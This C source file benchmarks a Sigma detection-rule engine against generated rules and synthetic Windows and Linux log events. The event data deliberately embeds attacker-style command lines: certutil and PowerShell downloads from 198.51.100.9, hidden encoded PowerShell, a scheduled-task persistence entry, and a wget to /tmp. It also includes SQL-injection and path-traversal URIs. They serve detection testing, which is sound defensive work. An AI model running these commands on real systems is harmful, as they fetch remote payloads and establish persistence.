/*
 * bench_rules — detection speed: 1,000 generated Sigma rules (half
 * equality, a third contains, the rest regular expressions, most with a
 * second condition) over a seeded stream of parsed, MozDef-shaped events,
 * on one core.  Prints events/s.
 *
 * With -d DIR (repeatable; a rule tree such as a checkout of SigmaHQ's
 * rules) it loads those rules with the mappings (-m DIR, default
 * share/mappings), prints the load time and the memory the rules take,
 * and runs a mix of parsed events as Windows (Sysmon, Security,
 * PowerShell) and Linux hosts (auditd, sshd, web access, syslog) send
 * them (see mix_event).  Events/s are given by the thread's CPU time,
 * which other load on the machine does not skew, and by the clock.
 *   build/rel/bench/bench_rules -d ~/sigma/rules -d ~/sigma/rules-emerging-threats \
 *       [-m share/mappings] [-n EVENTS] [-o EVENTS.ndjson] [-c EVENTS]
 * -o also writes the events, for a side-by-side with another engine; -c
 * first checks the index against every rule evaluated in full on that
 * many events.
 *
 *   make tools && build/rel/bench/bench_rules [RULES [EVENTS]]
 */
#include <stdint.h>
#include <stdio.h>
#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <jansson.h>

#define SIGMA_INTERNAL
#include "buf.h"
#include "correlate.h"
#include "sigma.h"

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint32_t
rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 11);
}

static const char *const words[] = {
	"connection", "closed", "session", "opened", "user", "failed",
	"accepted", "invalid", "password", "publickey", "timeout", "reset",
	"denied", "granted", "request", "response", "upstream", "backend",
	"query", "slow", "cache", "miss", "hit", "worker", "started",
	"stopped", "reload", "config", "disk", "memory", "cpu", "kernel",
	"module", "loaded", "device", "network", "interface", "link", "up",
	"down", "packet", "dropped", "firewall", "blocked", "allowed",
	"token", "expired", "refresh", "login", "logout", "admin", "root",
	"deploy", "backup", "cron", "job", "finished", "error", "warning",
	"retry", "queue", "full", "empty", "certificate", "handshake",
};
#define NWORDS	(sizeof(words) / sizeof(*words))

static const char *const procs[] = {
	"sshd", "sudo", "nginx", "postgres", "cron", "systemd", "kernel",
	"auditd", "dockerd", "haproxy", "named", "postfix", "app", "java",
};
#define NPROCS	(sizeof(procs) / sizeof(*procs))

static const char *const cats[] = {
	"authentication", "syslog", "web", "database", "audit", "network",
	"application", "firewall",
};
#define NCATS	(sizeof(cats) / sizeof(*cats))

static void
rules_text(struct buf *b, int n)
{
	int i, kind;

	for (i = 0; i < n; i++) {
		buf_printf(b, "---\ntitle: bench rule %d\nid: bench-%d\n"
		    "detection:\n", i, i);
		kind = i % 10;
		if (kind < 5) {		/* equality */
			buf_printf(b, "  sel:\n    details.code: %u\n"
			    "    processname: %s\n", 1000 + rnd() % 5000,
			    procs[rnd() % NPROCS]);
		} else if (kind < 8) {	/* contains */
			buf_printf(b, "  sel:\n    summary|contains: '%s %s %s'\n",
			    words[rnd() % NWORDS], words[rnd() % NWORDS],
			    words[rnd() % NWORDS]);
			if (kind == 7)
				buf_printf(b, "    category: %s\n",
				    cats[rnd() % NCATS]);
		} else {		/* regex */
			buf_printf(b, "  sel:\n    summary|re: '%s [a-z]+ %s"
			    "( [0-9]+)?$'\n", words[rnd() % NWORDS],
			    words[rnd() % NWORDS]);
			if (kind == 9)
				buf_printf(b, "    hostname|startswith: 'web'\n");
		}
		buf_printf(b, "  filter:\n    details.username: nobody\n"
		    "  condition: sel and not filter\n");
	}
}

static json_t *
event(int i)
{
	char summary[256], host[32], ts[40];
	size_t n = 0;
	int k, nw = 4 + rnd() % 8;

	summary[0] = '\0';
	for (k = 0; k < nw; k++)
		n += snprintf(summary + n, sizeof(summary) - n, "%s%s",
		    k ? " " : "", words[rnd() % NWORDS]);
	if (rnd() % 3 == 0)
		snprintf(summary + n, sizeof(summary) - n, " %u", rnd() % 100000);
	snprintf(host, sizeof(host), "%s%u", rnd() % 2 ? "web" : "db",
	    rnd() % 50);
	snprintf(ts, sizeof(ts), "2026-11-27T10:%02d:%02d.%06dZ",
	    (i / 60) % 60, i % 60, i % 1000000);
	return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:i, s:s, s:[s], "
	    "s:{s:s, s:i, s:s, s:b}}",
	    "utctimestamp", ts, "receivedtimestamp", ts,
	    "category", cats[rnd() % NCATS], "severity", "INFO",
	    "summary", summary, "hostname", host,
	    "processid", (int)(rnd() % 65536),
	    "processname", procs[rnd() % NPROCS],
	    "tags", "bench",
	    "details", "sourceipaddress", "203.0.113.7",
	    "code", (int)(1000 + rnd() % 5000),
	    "username", rnd() % 2 ? "deploy" : "nobody",
	    "success", (int)(rnd() % 2));
}

/* The executables and command lines of the Windows events: what an
   office and its servers run all day, a few admin and attack tools among
   them (so some rules fire, as on a real network). */
static const struct {
	const char	*dir, *exe, *args;
} procs_win[] = {
	{ "C:\\Windows\\System32\\", "svchost.exe", "-k netsvcs -p -s Schedule" },
	{ "C:\\Windows\\System32\\", "svchost.exe", "-k LocalServiceNetworkRestricted -p" },
	{ "C:\\Program Files\\Google\\Chrome\\Application\\", "chrome.exe",
	  "--type=renderer --lang=en-US --renderer-client-id=7" },
	{ "C:\\Windows\\", "explorer.exe", "" },
	{ "C:\\Windows\\System32\\", "conhost.exe", "0xffffffff -ForceV1" },
	{ "C:\\Windows\\System32\\", "cmd.exe", "/c echo build && nmake all" },
	{ "C:\\Windows\\System32\\", "cmd.exe", "/c whoami /all" },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\", "powershell.exe",
	  "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1" },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\", "powershell.exe",
	  "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
	{ "C:\\Windows\\System32\\", "rundll32.exe",
	  "shell32.dll,Control_RunDLL desk.cpl" },
	{ "C:\\Windows\\System32\\", "msiexec.exe", "/i C:\\Temp\\agent.msi /qn" },
	{ "C:\\Windows\\System32\\", "notepad.exe", "C:\\Users\\u1\\notes.txt" },
	{ "C:\\Windows\\System32\\", "taskhostw.exe", "" },
	{ "C:\\Users\\u1\\AppData\\Local\\Microsoft\\OneDrive\\", "OneDrive.exe",
	  "/background" },
	{ "C:\\Users\\u1\\AppData\\Local\\Microsoft\\Teams\\current\\",
	  "Teams.exe", "--process-start-args --system-initiated" },
	{ "C:\\Windows\\System32\\", "backgroundTaskHost.exe",
	  "-ServerName:App.AppXmtcan0h2tfbfy7k9kmh4tdyh3gakdrvt.mca" },
	{ "C:\\Windows\\System32\\wbem\\", "WmiPrvSE.exe", "-Embedding" },
	{ "C:\\Program Files\\Git\\cmd\\", "git.exe", "status --porcelain" },
	{ "C:\\Python311\\", "python.exe", "-m pip list" },
	{ "C:\\Windows\\System32\\", "schtasks.exe",
	  "/create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute" },
	{ "C:\\Windows\\System32\\", "reg.exe",
	  "query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" },
	{ "C:\\Windows\\System32\\", "net.exe", "user /domain" },
	{ "C:\\Windows\\System32\\", "certutil.exe",
	  "-urlcache -split -f http://198.51.100.9/a.txt a.exe" },
	{ "C:\\Windows\\System32\\", "wevtutil.exe", "qe Security /c:5" },
	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\", "WINWORD.EXE",
	  "/n C:\\Users\\u1\\Documents\\report.docx" },
	{ "C:\\Windows\\System32\\", "SearchProtocolHost.exe",
	  "Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1" },
	{ "C:\\Windows\\System32\\", "dllhost.exe",
	  "/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}" },
	{ "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\", "csc.exe",
	  "/noconfig /fullpaths @\"C:\\Users\\u1\\AppData\\Local\\Temp\\x.cmdline\"" },
};
#define NPROCS_WIN	(sizeof(procs_win) / sizeof(*procs_win))

static const char *const parents_win[] = {
	"C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
	"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
	"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
};
#define NPARENTS_WIN	(sizeof(parents_win) / sizeof(*parents_win))

static const char *const files_win[] = {
	"C:\\Users\\u1\\AppData\\Local\\Temp\\tmp1234.tmp",
	"C:\\Users\\u1\\Downloads\\invoice.pdf",
	"C:\\Windows\\Prefetch\\CHROME.EXE-5C3E6B2A.pf",
	"C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache.bin",
	"C:\\Users\\u1\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\"
	    "Programs\\Startup\\upd.lnk",
};
#define NFILES_WIN	(sizeof(files_win) / sizeof(*files_win))

static const char *const regkeys[] = {
	"HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming",
	"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\"
	    "S-1-5-21-1\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe",
	"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\"
	    "Explorer\\RecentDocs\\.docx",
	"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
};
#define NREGKEYS	(sizeof(regkeys) / sizeof(*regkeys))

static const char *const dlls[] = {
	"C:\\Windows\\System32\\kernel32.dll", "C:\\Windows\\System32\\ntdll.dll",
	"C:\\Windows\\System32\\wininet.dll", "C:\\Windows\\System32\\amsi.dll",
	"C:\\Windows\\System32\\clr.dll",
};
#define NDLLS	(sizeof(dlls) / sizeof(*dlls))

static const char *const scripts[] = {
	"Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item",
	"Import-Module ActiveDirectory; Get-ADUser -Filter *",
	"$s = New-Object Net.WebClient; $s.DownloadString('http://198.51.100.9/a')",
	"Get-Service | Where-Object Status -eq Running",
};
#define NSCRIPTS	(sizeof(scripts) / sizeof(*scripts))

static const struct {
	const char	*exe, *comm, *args;
} procs_lin[] = {
	{ "/usr/bin/ls", "ls", "ls -la /var/log" },
	{ "/usr/bin/bash", "bash", "bash -c /opt/app/healthcheck.sh" },
	{ "/usr/bin/python3.11", "python3", "python3 /opt/app/worker.py --queue jobs" },
	{ "/usr/bin/curl", "curl", "curl -s http://10.0.0.5/status" },
	{ "/usr/sbin/useradd", "useradd", "useradd -m deploy2" },
	{ "/usr/bin/wget", "wget", "wget -q http://198.51.100.9/x.sh -O /tmp/x.sh" },
	{ "/usr/bin/systemctl", "systemctl", "systemctl restart nginx" },
	{ "/usr/bin/crontab", "crontab", "crontab -l" },
	{ "/usr/bin/id", "id", "id" },
};
#define NPROCS_LIN	(sizeof(procs_lin) / sizeof(*procs_lin))

static const char *const uris[] = {
	"/index.html", "/api/v1/orders?page=2", "/static/app.js",
	"/login", "/wp-login.php", "/.env", "/api/v1/users/42",
	"/search?q=%27%20OR%201%3D1--", "/cgi-bin/../../etc/passwd",
	"/images/logo.png",
};
#define NURIS	(sizeof(uris) / sizeof(*uris))

static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	    "(KHTML, like Gecko) Chrome/120.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
	"curl/8.5.0", "python-requests/2.31.0", "sqlmap/1.7.2#stable",
};
#define NAGENTS	(sizeof(agents) / sizeof(*agents))

#define SYSMON	"Microsoft-Windows-Sysmon/Operational"

/* A Windows event as NXLog or the Windows parser leave it: the EventData
   flat under details. */
static json_t *
win_event(const char *ts, const char *host, int id, const char *channel,
    const char *provider, const char *summary)
{
	return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:{s:i, s:s}}",
	    "utctimestamp", ts, "receivedtimestamp", ts, "hostname", host,
	    "processname", provider, "category", "windows", "summary", summary,
	    "details", "EventID", id, "Channel", channel);
}

static void
set(json_t *ev, const char *k, json_t *v)
{
	json_object_set_new(json_object_get(ev, "details"), k, v);
}

/*
 * A parsed event of the mix, two thirds Windows and one third Linux:
 * Sysmon process creation 20 %, Security 4688 5 %, Sysmon network 10 %,
 * file 5 %, registry 10 %, image load 5 %, Security logons 5 %,
 * PowerShell script blocks 5 %; auditd 10 %, sshd 10 %, web access
 * 10 %, other syslog 5 %.  The Windows ones as NXLog ships them
 * (EventData flat under details), the Linux ones as ward's parsers
 * leave them.
 */
static json_t *
mix_event(int i)
{
	char ts[40], img[256], cmd[512], host[32], user[32], ip[32], txt[512];
	unsigned k = rnd() % 20, p = rnd() % NPROCS_WIN;
	const char *parent = parents_win[rnd() % NPARENTS_WIN];
	json_t *ev;

	snprintf(ts, sizeof(ts), "2026-11-27T10:%02d:%02d.%06dZ",
	    (i / 60) % 60, i % 60, i % 1000000);
	snprintf(img, sizeof(img), "%s%s", procs_win[p].dir, procs_win[p].exe);
	snprintf(cmd, sizeof(cmd), "\"%s\" %s", img, procs_win[p].args);
	snprintf(host, sizeof(host), "ws%u.corp.example", rnd() % 500);
	snprintf(user, sizeof(user), "CORP\\u%u", rnd() % 2000);
	snprintf(ip, sizeof(ip), "10.%u.%u.%u", rnd() % 256, rnd() % 256,
	    rnd() % 256);
	if (k < 4) {
		ev = win_event(ts, host, 1, SYSMON, "Microsoft-Windows-Sysmon",
		    "Process Create");
		set(ev, "Image", json_string(img));
		set(ev, "CommandLine", json_string(cmd));
		set(ev, "ParentImage", json_string(parent));
		set(ev, "ParentCommandLine", json_string(parent));
		set(ev, "User", json_string(user));
		set(ev, "IntegrityLevel", json_string(rnd() % 4 ? "Medium" :
		    "High"));
		set(ev, "OriginalFileName", json_string(procs_win[p].exe));
		set(ev, "Product", json_string("Microsoft® Windows® Operating "
		    "System"));
		set(ev, "Company", json_string("Microsoft Corporation"));
		set(ev, "CurrentDirectory", json_string("C:\\Users\\u1\\"));
		set(ev, "LogonId", json_string("0x3e7"));
		set(ev, "ProcessId", json_integer(rnd() % 65536));
		set(ev, "Hashes", json_string("SHA256=9F86D081884C7D659A2FEAA0C5"
		    "5AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577"
		    "ED6D9CEEC516C1F5A744"));
		return ev;
	}
	if (k == 4) {
		ev = win_event(ts, host, 4688, "Security",
		    "Microsoft-Windows-Security-Auditing", "A new process has "
		    "been created.");
		set(ev, "NewProcessName", json_string(img));
		set(ev, "CommandLine", json_string(cmd));
		set(ev, "ParentProcessName", json_string(parent));
		set(ev, "SubjectUserName", json_string(user + 5));
		set(ev, "SubjectDomainName", json_string("CORP"));
		set(ev, "TokenElevationType", json_string("%%1936"));
		set(ev, "MandatoryLabel", json_string("S-1-16-8192"));
		return ev;
	}
	if (k < 7) {
		ev = win_event(ts, host, 3, SYSMON, "Microsoft-Windows-Sysmon",
		    "Network connection detected");
		set(ev, "Image", json_string(img));
		set(ev, "User", json_string(user));
		set(ev, "Protocol", json_string("tcp"));
		set(ev, "Initiated", json_string("true"));
		set(ev, "SourceIp", json_string("10.1.2.3"));
		set(ev, "SourcePort", json_integer(49152 + rnd() % 16000));
		set(ev, "DestinationIp", json_string(ip));
		set(ev, "DestinationHostname", json_string("svc.corp.example"));
		set(ev, "DestinationPort", json_integer(rnd() % 2 ? 443 : 80));
		return ev;
	}
	if (k == 7) {
		ev = win_event(ts, host, 11, SYSMON, "Microsoft-Windows-Sysmon",
		    "File created");
		set(ev, "Image", json_string(img));
		set(ev, "TargetFilename", json_string(files_win[rnd() %
		    NFILES_WIN]));
		set(ev, "User", json_string(user));
		return ev;
	}
	if (k < 10) {
		ev = win_event(ts, host, 13, SYSMON, "Microsoft-Windows-Sysmon",
		    "Registry value set");
		set(ev, "EventType", json_string("SetValue"));
		set(ev, "Image", json_string(img));
		set(ev, "TargetObject", json_string(regkeys[rnd() % NREGKEYS]));
		set(ev, "Details", json_string(rnd() % 2 ? "DWORD (0x00000001)" :
		    "C:\\Users\\Public\\upd.exe"));
		set(ev, "User", json_string(user));
		return ev;
	}
	if (k == 10) {
		ev = win_event(ts, host, 7, SYSMON, "Microsoft-Windows-Sysmon",
		    "Image loaded");
		set(ev, "Image", json_string(img));
		set(ev, "ImageLoaded", json_string(dlls[rnd() % NDLLS]));
		set(ev, "Signed", json_string("true"));
		set(ev, "Signature", json_string("Microsoft Windows"));
		set(ev, "SignatureStatus", json_string("Valid"));
		set(ev, "Hashes", json_string("SHA256=2C26B46B68FFC68FF99B453C1D"
		    "30413413422D706483BFA0F98A5E886266E7AE"));
		return ev;
	}
	if (k == 11) {
		ev = win_event(ts, "dc1.corp.example", rnd() % 4 ? 4624 : 4625,
		    "Security", "Microsoft-Windows-Security-Auditing",
		    "An account was successfully logged on.");
		set(ev, "TargetUserName", json_string(user + 5));
		set(ev, "TargetDomainName", json_string("CORP"));
		set(ev, "IpAddress", json_string(ip));
		set(ev, "LogonType", json_integer(rnd() % 2 ? 3 : 10));
		set(ev, "LogonProcessName", json_string("NtLmSsp"));
		set(ev, "AuthenticationPackageName", json_string("NTLM"));
		set(ev, "WorkstationName", json_string(host));
		return ev;
	}
	if (k == 12) {
		ev = win_event(ts, host, 4104,
		    "Microsoft-Windows-PowerShell/Operational",
		    "Microsoft-Windows-PowerShell", "Creating Scriptblock text");
		set(ev, "ScriptBlockText", json_string(scripts[rnd() %
		    NSCRIPTS]));
		set(ev, "ScriptBlockId", json_string("5f1c9d2e-0a4b-4c1e-9a61-"
		    "2b9f3c7d8e01"));
		set(ev, "Path", json_string(""));
		return ev;
	}
	p = rnd() % NPROCS_LIN;
	snprintf(host, sizeof(host), "srv%u.corp.example", rnd() % 100);
	if (k < 15) {		/* auditd: an EXECVE record, or a SYSCALL */
		snprintf(txt, sizeof(txt), "type=%s msg=audit(1764237600.%03u:"
		    "%u): ...", k == 13 ? "EXECVE" : "SYSCALL", rnd() % 1000,
		    rnd());
		ev = json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:{s:s, s:s, "
		    "s:s, s:s, s:s, s:s}}", "utctimestamp", ts,
		    "receivedtimestamp", ts, "hostname", host, "processname",
		    "auditd", "category", "audit", "summary", txt, "details",
		    "type", k == 13 ? "EXECVE" : "SYSCALL", "exe",
		    procs_lin[p].exe, "comm", procs_lin[p].comm, "auid", "1000",
		    "uid", "0", "key", rnd() % 2 ? "exec" : "susp_activity");
		if (k == 13) {
			set(ev, "a0", json_string(procs_lin[p].comm));
			set(ev, "a1", json_string("-la"));
			set(ev, "argc", json_string("2"));
			set(ev, "command", json_string(procs_lin[p].args));
		} else {
			set(ev, "syscall", json_string("59"));
			set(ev, "arch", json_string("c000003e"));
			set(ev, "success", json_string("yes"));
			set(ev, "pid", json_string("4242"));
		}
		return ev;
	}
	if (k < 17) {		/* sshd */
		int ok = rnd() % 3 != 0;

		snprintf(txt, sizeof(txt), "%s password for %s from %s port %u "
		    "ssh2", ok ? "Accepted" : "Failed", user + 5, ip,
		    1024 + rnd() % 60000);
		return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:[s], s:{s:s, "
		    "s:s, s:s, s:s, s:i, s:b}}", "utctimestamp", ts,
		    "receivedtimestamp", ts, "hostname", host, "processname",
		    "sshd", "category", "authentication", "summary", txt,
		    "tags", "sshd", "details", "authstatus", ok ? "Accepted" :
		    "Failed", "authmethod", "password", "username", user + 5,
		    "sourceipaddress", ip, "sourceport", (int)(1024 + rnd() %
		    60000), "success", ok);
	}
	if (k < 19) {		/* web access */
		const char *uri = uris[rnd() % NURIS], *ua = agents[rnd() %
		    NAGENTS];
		int st = rnd() % 5 ? 200 : 404;

		snprintf(txt, sizeof(txt), "%s - - [27/Nov/2026:10:00:00 +0000] "
		    "\"GET %s HTTP/1.1\" %d 512 \"-\" \"%s\"", ip, uri, st, ua);
		return json_pack("{s:s, s:s, s:s, s:s, s:s, s:s, s:[s], s:{s:s, "
		    "s:s, s:s, s:s, s:s, s:i, s:i, s:s, s:s}}", "utctimestamp",
		    ts, "receivedtimestamp", ts, "hostname", host,
		    "processname", "nginx", "category", "web", "summary", txt,
		    "tags", "http", "details", "sourceipaddress", ip, "username",
		    "-", "method", "GET", "uri", uri, "protocol", "HTTP/1.1",
		    "status", st, "bytes", 512, "referrer", "-", "useragent",
		    ua);
	}
	return event(i);
}

static size_t
rss_kb(void)
{
	FILE *f = fopen("/proc/self/statm", "r");
	unsigned long size = 0, res = 0;

	if (f != NULL) {
		if (fscanf(f, "%lu %lu", &size, &res) != 2)
			res = 0;
		fclose(f);
	}
	return res * (size_t)sysconf(_SC_PAGESIZE) / 1024;
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* This thread's CPU time: robust to other load on the machine, where the
   wall clock is not. */
static double
cpu_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void
count_cb(void *arg, const struct rule_match *m)
{
	(void)m;
	++*(size_t *)arg;
}

static void
show_error(void *arg, const struct rule_error *e)
{
	if ((*(size_t *)arg)++ < 5)
		fprintf(stderr, "%s:%u: %s\n", e->file, e->line, e->msg);
}

/* The index against every rule evaluated in full, on the first n events:
   the number of events where they disagree (each reported). */
static int
check(struct ruleset *rs, json_t **evs, int n)
{
	struct sigma_scratch *s = sigma_scratch_new(rs);
	const size_t *hits;
	size_t *copy, nh, i, k;
	int e, bad = 0;

	if (s == NULL || (copy = calloc(ruleset_count(rs) + 1,
	    sizeof(*copy))) == NULL)
		return -1;
	for (e = 0; e < n; e++) {
		nh = sigma_match(rs, s, evs[e], &hits);
		memcpy(copy, hits, nh * sizeof(*copy));
		for (i = k = 0; i < ruleset_count(rs); i++) {
			if (!sigma_rule_matches(rs, s, ruleset_rule(rs, i),
			    evs[e]))
				continue;
			if (k >= nh || copy[k] != i) {
				printf("event %d: the index missed %s\n", e,
				    ruleset_rule(rs, i)->file);
				bad++;
				break;
			}
			k++;
		}
		if (i == ruleset_count(rs) && k != nh) {
			printf("event %d: the index matched more\n", e);
			bad++;
		}
	}
	free(copy);
	sigma_scratch_free(s);
	return bad;
}

/* -d mode: a rule tree and the mix. */
static int
tree(const char **dirs, size_t ndirs, const char *maps, int nevents,
    const char *out, int ncheck)
{
	const char *paths[40];
	struct ruleset *rs;
	struct correlator *c;
	json_t **evs;
	size_t nerr = 0, matches = 0, before, i, np = 0;
	double t0, t1, c0, c1;
	FILE *f = NULL;
	int k;

	paths[np++] = maps;
	for (i = 0; i < ndirs && np < 40; i++)
		paths[np++] = dirs[i];
	before = rss_kb();
	t0 = now_s();
	c0 = cpu_s();
	rs = ruleset_load(paths, np, show_error, &nerr, &nerr);
	c1 = cpu_s();
	t1 = now_s();
	if (rs == NULL)
		return 1;
	printf("rules: %zu loaded, %zu refused, in %.0f ms (%.0f ms CPU); "
	    "%.1f MB RSS for the rules\n", ruleset_count(rs), nerr,
	    (t1 - t0) * 1e3, (c1 - c0) * 1e3,
	    (double)(rss_kb() - before) / 1024);
	printf("index: %zu rules anchored, %zu tried on every event\n",
	    rs->nanchored, rs->nalways);
	if ((evs = calloc(nevents, sizeof(*evs))) == NULL)
		return 1;
	if (out != NULL && (f = fopen(out, "w")) == NULL) {
		perror(out);
		return 1;
	}
	for (k = 0; k < nevents; k++) {
		evs[k] = mix_event(k);
		if (f != NULL) {
			json_dumpf(evs[k], f, JSON_COMPACT);
			fputc('\n', f);
		}
	}
	if (f != NULL)
		fclose(f);
	if (ncheck > 0) {
		if (ncheck > nevents)
			ncheck = nevents;
		printf("check: the index and full evaluation disagree on %d of "
		    "%d events\n", check(rs, evs, ncheck), ncheck);
	}
	c = correlator_new(rs);
	for (k = 0; k < nevents / 10; k++)
		correlator_feed(c, evs[k], k, 0, count_cb, &matches);
	matches = 0;
	t0 = now_s();
	c0 = cpu_s();
	for (k = 0; k < nevents; k++)
		correlator_feed(c, evs[k], k, 0, count_cb, &matches);
	c1 = cpu_s();
	t1 = now_s();
	printf("events (Windows and Linux mix): %d, matches: %zu, %.0f "
	    "events/s by CPU time (%.2f us/event), %.0f by the clock\n",
	    nevents, matches, nevents / (c1 - c0), (c1 - c0) * 1e6 / nevents,
	    nevents / (t1 - t0));
	for (k = 0; k < nevents; k++)
		json_decref(evs[k]);
	free(evs);
	correlator_free(c);
	ruleset_free(rs);
	return 0;
}

int
main(int argc, char **argv)
{
	int nrules, nevents;
	struct ruleset *rs;
	struct correlator *c;
	struct buf b;
	json_t **evs;
	size_t nerr = 0, matches = 0;
	double t0, t1;
	int i;

	if (argc > 1 && strcmp(argv[1], "-d") == 0) {
		const char *dirs[32], *maps = "share/mappings", *out = NULL;
		size_t nd = 0;
		int n = 200000, a, nc = 0;

		for (a = 1; a + 1 < argc; a += 2) {
			if (strcmp(argv[a], "-d") == 0 && nd < 32)
				dirs[nd++] = argv[a + 1];
			else if (strcmp(argv[a], "-m") == 0)
				maps = argv[a + 1];
			else if (strcmp(argv[a], "-n") == 0)
				n = atoi(argv[a + 1]);
			else if (strcmp(argv[a], "-o") == 0)
				out = argv[a + 1];
			else if (strcmp(argv[a], "-c") == 0)
				nc = atoi(argv[a + 1]);
		}
		return tree(dirs, nd, maps, n > 0 ? n : 1, out, nc);
	}
	nrules = argc > 1 ? atoi(argv[1]) : 1000;
	nevents = argc > 2 ? atoi(argv[2]) : 200000;
	if (nrules < 1 || nevents < 1) {
		fprintf(stderr, "usage: bench_rules [RULES [EVENTS]]\n"
		    "       bench_rules -d DIR... [-m DIR] [-n EVENTS] "
		    "[-o EVENTS.ndjson] [-c EVENTS]\n");
		return 2;
	}
	buf_init(&b);
	rules_text(&b, nrules);
	t0 = now_s();
	rs = ruleset_load_string(b.data, b.len, "bench.yml", NULL, NULL, &nerr);
	t1 = now_s();
	if (rs == NULL || nerr > 0) {
		fprintf(stderr, "bench_rules: %zu rules did not load\n", nerr);
		return 1;
	}
	printf("rules: %zu loaded in %.1f ms\n", ruleset_count(rs),
	    (t1 - t0) * 1e3);
	if ((evs = calloc(nevents, sizeof(*evs))) == NULL)
		return 1;
	for (i = 0; i < nevents; i++)
		evs[i] = event(i);
	c = correlator_new(rs);
	/* warm up */
	for (i = 0; i < nevents / 10; i++)
		correlator_feed(c, evs[i], i, 0, count_cb, &matches);
	matches = 0;
	t0 = now_s();
	for (i = 0; i < nevents; i++)
		correlator_feed(c, evs[i], i, 0, count_cb, &matches);
	t1 = now_s();
	printf("events: %d, matches: %zu, %.0f events/s (%.2f us/event)\n",
	    nevents, matches, nevents / (t1 - t0), (t1 - t0) * 1e6 / nevents);
	for (i = 0; i < nevents; i++)
		json_decref(evs[i]);
	free(evs);
	correlator_free(c);
	ruleset_free(rs);
	buf_release(&b);
	return 0;
}
